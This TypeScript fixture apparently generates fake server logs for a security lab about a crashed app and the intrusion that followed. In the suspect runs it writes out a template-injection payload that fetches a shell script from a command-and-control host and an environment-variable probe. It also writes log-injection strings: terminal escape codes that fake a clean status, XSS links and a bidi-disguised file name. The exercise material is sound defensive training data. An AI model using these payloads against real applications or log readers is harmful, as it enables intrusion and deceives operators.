import type { LabLogLine } from '../../log-line.js'

import type { Moments } from '../moments.js'
import { later, nanoTime } from '../moments.js'
import { C2 } from '../names.js'

const PATHS = [
  '/',
  '/cart',
  '/search?q=lamp',
  '/checkout',
  '/item/17',
  '/item/42',
  '/healthz',
  '/static/app.css',
]

/** The first run of the suspect's app: six days of requests, then what brought it down. */
export function crashedLog({ appFirstStarted, appCrashed }: Moments): readonly LabLogLine[] {
  const requests = requestLines(appFirstStarted, later(appCrashed, -400), 2400)
  return [
    line(appFirstStarted, 'listening on 0.0.0.0:8080, 4 workers', 118),
    ...requests,
    line(later(appCrashed, -322), 'GET /search?q=${env:AWS_REGION} 500 template: unclosed action', 90_117),
    line(later(appCrashed, -318), `GET /search?q=\${url:http://${C2.address}/p.sh} 500 dial tcp timeout`, 12),
    line(later(appCrashed, -41), 'FATAL worker 3: stack overflow in template engine', 40_200),
    line(later(appCrashed, -1), 'shutting down: SIGTERM', 550_001),
  ]
}

/** The run in which the intruder got in. */
export function suspectLog({ now, appRestarted, intrusion }: Moments): readonly LabLogLine[] {
  return [
    line(appRestarted, 'listening on 0.0.0.0:8080, 4 workers', 73),
    ...requestLines(later(appRestarted, 1), later(intrusion, -1), 300),
    line(intrusion, `GET /search?q=\${url:http://${C2.address}/p.sh} 200 rendered in 211 ms`, 731),
    // what the intruder wrote, for whoever reads the log in a terminal or in Markdown
    line(later(intrusion, 1), '\u001b[2J\u001b[H\u001b[32mINFO\u001b[0m all checks passed', 200),
    line(later(intrusion, 2), 'user="](javascript:alert(1))" agent="| # <img src=x onerror=alert(1)>"', 77),
    line(later(intrusion, 3), `bell \u0007 and title \u001b]0;owned\u0007 and bidi \u202efdp.exe`, 78),
    ...requestLines(later(intrusion, 4), later(now, -2), 3600),
  ]
}

/** A healthy run since `started`: few lines for a young one. */
export function healthyLog(started: Date, now: Date): readonly LabLogLine[] {
  const age = (now.getTime() - started.getTime()) / 1000
  const count = Math.max(0, Math.min(2500, Math.floor(age / 10)))
  return [
    line(started, 'listening on 0.0.0.0:8080, 4 workers', 64),
    ...requestLines(later(started, 1), later(now, -1), count),
  ]
}

export function shortLog(started: Date, lines: readonly string[]): readonly LabLogLine[] {
  return lines.map((text, index) => line(later(started, index), text, 1009 * (index + 1)))
}

/** Requests spread evenly over a span; a longer line now and then, as stack traces are. */
function requestLines(from: Date, to: Date, count: number): readonly LabLogLine[] {
  const step = (to.getTime() - from.getTime()) / (count + 1)
  if (step <= 0) return []
  return Array.from({ length: count }, (_, index) => {
    const at = new Date(from.getTime() + Math.floor(step * (index + 1)))
    const path = PATHS[(index * 5) % PATHS.length] ?? '/'
    const status = index % 97 === 96 ? 404 : 200
    const trace = index % 400 === 399 ? ` trace=${'frame/'.repeat(300)}` : ''
    return line(
      at,
      `10.42.2.${30 + (index % 40)} GET ${path} ${status} ${3 + (index % 23)}ms${trace}`,
      index * 7919,
    )
  })
}

function line(at: Date, text: string, nanos: number): LabLogLine {
  return { time: nanoTime(at, nanos), text }
}
